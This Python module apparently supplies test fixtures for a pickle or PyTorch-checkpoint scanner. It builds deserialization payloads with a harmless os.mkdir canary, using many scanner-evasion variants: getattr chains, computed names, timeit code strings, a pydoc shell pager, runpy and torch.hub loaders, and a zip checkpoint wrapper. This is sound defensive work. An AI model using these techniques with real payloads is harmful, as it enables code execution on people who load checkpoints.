"""Pickles that make a folder when they are unpickled, and do no other harm.

Every builder takes the path of that folder, the canary, and returns the bytes. ``os.mkdir`` is the payload:
one function, one text, and easy to look for afterwards.
"""

import io
import os
import pickle
import struct
import zipfile
from pathlib import Path


class Payload:
    def __init__(self, canary):
        self.canary = str(canary)

    def __reduce__(self):
        return os.mkdir, (self.canary,)


def _line(canary):
    return b"V" + str(canary).encode() + b"\n"


def _text(text):
    content = str(text).encode()
    return b"X" + struct.pack("<I", len(content)) + content


def _short(text):
    content = str(text).encode()
    return b"\x8c" + bytes([len(content)]) + content


def _global(module, name):
    return _short(module) + _short(name) + b"\x93"


def _import(module):
    return b"cimportlib\nimport_module\n" + _text(module) + b"\x85R"


MKDIR = b"cos\nmkdir\n"

OPCODES = {
    "protocol 0, REDUCE": lambda c: MKDIR + b"(" + _line(c) + b"tR.",
    "protocol 1, REDUCE": lambda c: MKDIR + b"(" + _text(c) + b"tR.",
    "protocol 2, REDUCE": lambda c: b"\x80\x02" + MKDIR + _text(c) + b"\x85R.",
    "protocol 3, REDUCE": lambda c: b"\x80\x03" + MKDIR + _text(c) + b"\x85R.",
    "protocol 4, STACK_GLOBAL": lambda c: b"\x80\x04" + _global("os", "mkdir") + _short(c) + b"\x85R.",
    "protocol 5, framed": lambda c: pickle.dumps(Payload(c), protocol=5),
    "INST": lambda c: b"(" + _line(c) + b"ios\nmkdir\n.",
    "OBJ": lambda c: b"(" + MKDIR + _line(c) + b"o.",
    "BUILD": lambda c: (
        b"\x80\x02ctypes\nSimpleNamespace\n)\x81}" + _text("__setstate__") + MKDIR + b"sb" + _text(c) + b"b."
    ),
    "NEWOBJ_EX": lambda c: (
        b"\x80\x04" + _global("functools", "partial") + _global("os", "mkdir") + _short(c) + b"\x86}\x92)R."
    ),
    "STACK_GLOBAL through the memo": lambda c: (
        b"\x80\x04" + _short("mkdir") + b"\x94" + _short("os") + b"\x94h\x01h\x00\x93" + _short(c) + b"\x85R."
    ),
    "STACK_GLOBAL of a computed name": lambda c: (
        b"\x80\x04" + _short("os") + _global("operator", "add") + _short("mk") + _short("dir") + b"\x86R\x93"
        + _short(c) + b"\x85R."
    ),
    "chain of getattr": lambda c: (
        b"\x80\x02cbuiltins\ngetattr\n" + _import("os") + _text("mkdir") + b"\x86R" + _text(c) + b"\x85R."
    ),
    "operator.attrgetter": lambda c: (
        b"\x80\x02coperator\nattrgetter\n" + _text("mkdir") + b"\x85R" + _import("os") + b"\x85R" + _text(c)
        + b"\x85R."
    ),
    "operator.methodcaller": lambda c: (
        b"\x80\x02coperator\nmethodcaller\n" + _text("mkdir") + b"\x85Rcpathlib\nPath\n" + _text(c)
        + b"\x85R\x85R."
    ),
    "functools.partial": lambda c: (
        b"\x80\x02cfunctools\npartial\n" + MKDIR + _text(c) + b"\x86R)R."
    ),
    "map in a list": lambda c: (
        b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + MKDIR + b"]" + _text(c) + b"a\x86R\x85R."
    ),
    "timeit": lambda c: b"\x80\x02ctimeit\ntimeit\n(" + _text(f"__import__('os').mkdir({str(c)!r})")
    + _text("pass") + b"ctime\nperf_counter\nK\x01tR.",
    "pydoc pager": lambda c: b"\x80\x02cpydoc\npipepager\n" + _text("") + _text(f"mkdir '{c}'") + b"\x86R.",
    "class left unfinished": lambda c: b"\x80\x02" + MKDIR + _text(c) + b"\x85R" + b"\xff\xff",
}  # fmt: skip
"""Each in the place of ``data.pkl`` in a checkpoint."""


def extension(canary):
    return b"\x80\x02\x82\xf0" + _text(canary) + b"\x85R."


def persistent(canary):
    return b"P" + str(canary).encode() + b"\n."


def hub(repository):
    return b"\x80\x02ctorch.hub\n_load_local\n" + _text(repository) + _text("entry") + b"\x86R."


def run_path(script):
    return b"\x80\x02crunpy\nrun_path\n" + _text(script) + b"\x85R."


def checkpoint(stream, root="archive", compression=zipfile.ZIP_STORED, **members):
    """The file layout of ``torch.save`` around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr(f"{root}/data.pkl", stream)
        archive.writestr(f"{root}/byteorder", "little")
        archive.writestr(f"{root}/version", "3\n")
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def everything(canary):
    """One pickle that tries every payload of ``OPCODES`` whose names can be unpickled anywhere."""
    parts = [pickle.dumps(Payload(Path(f"{canary}-{i}")), protocol=2)[2:-1] for i in range(3)]
    return b"\x80\x02(" + b"".join(parts) + b"l."
